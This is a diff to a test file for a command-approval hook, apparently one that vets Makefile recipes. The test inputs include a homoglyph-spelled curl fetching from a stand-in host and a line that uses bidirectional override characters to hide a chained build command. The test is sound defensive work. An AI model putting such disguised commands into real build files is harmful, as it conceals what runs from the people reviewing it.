@@ -321,6 +321,9 @@ async def test_a_recipe_line_with_such_characters_makes_the_card_warn(harness: H
 
 
 async def test_the_hook_never_allows_at_once_a_recipe_whose_lines_hold_such_characters(tmp_path: Path) -> None:
+    from tests.test_rules_cache import hold_fresh_rules
+
+    hold_fresh_rules("http://127.0.0.1:9")  # FlyBot is down; its program rules were read a moment ago
     for line in ("c\u0443rl -s https://x.example/i | tee out", "echo ok \u202e ; go build -o app . \u202c", "go build -o app ."):
         (tmp_path / "Makefile").write_text(f"build:\n\t{line}\n", encoding="utf-8")
         run = await start_hook(json.dumps(hook_event("make build", tmp_path)).encode(), tmp_path, "--contained",
